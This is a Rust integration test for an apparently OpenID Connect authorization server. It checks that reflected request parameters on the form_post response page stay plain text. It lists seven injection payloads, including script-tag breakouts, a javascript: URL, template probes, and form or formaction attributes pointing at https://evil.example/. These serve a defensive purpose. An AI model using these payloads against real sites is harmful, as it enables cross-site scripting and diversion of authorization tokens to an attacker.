//! What comes back to the client in a form is text, whatever it is: nothing of it becomes markup, another field, another
//! address or a script.

use protocol::client::ResponseType;

use crate::world::{Page, World, answered_anyhow};

const PAYLOADS: [&str; 7] = [
    "\"><script>alert(1)</script><input name=x value=\"",
    "'></form><form action='https://evil.example/'>",
    "</script><script>alert(1)</script>",
    "\" formaction=\"https://evil.example/\" x=\"",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7 %>",
    "&quot;&lt;b&#62;\u{202e}<!--",
];

/// What a page is made of, without what it says.
fn skeleton(page: &Page) -> Vec<String> {
    page.elements().map(|(name, attributes)| format!("{name}{:?}", attributes.keys())).collect()
}

#[tokio::test]
async fn no_parameter_becomes_markup_in_the_form_that_is_posted() {
    let world = World::new().await;
    let (alice, party) = (world.person("alice").await, world.client(answered_anyhow).await);
    let mut browser = world.browser();
    let ask = party.ask_by(&ResponseType::CodeIdToken).and("response_mode", "form_post");
    browser.authorize(&ask, &alice).await;
    let plain = Page::read(browser.visit(&ask.path()).await);
    let refused = Page::read(browser.visit(&ask.clone().set("prompt", "x").path()).await);
    assert_eq!([&plain.id, &refused.id], ["form-post-page", "form-post-page"]);
    for payload in PAYLOADS {
        for (ask, expected) in [
            (ask.clone().set("state", payload), &plain),
            (ask.clone().set("state", payload).set("nonce", payload), &plain),
            (ask.clone().set("state", payload).set("prompt", payload), &refused),
            (ask.clone().set("state", payload).set("scope", &format!("{payload}\"")), &refused),
        ] {
            let page = Page::read(browser.visit(&ask.path()).await);
            assert_eq!(skeleton(&page), skeleton(expected), "{payload}");
            assert_eq!(page.hidden("state"), payload);
            assert_eq!(page.by_id("form-post").unwrap()["action"], "https://client.example/cb");
        }
    }
}
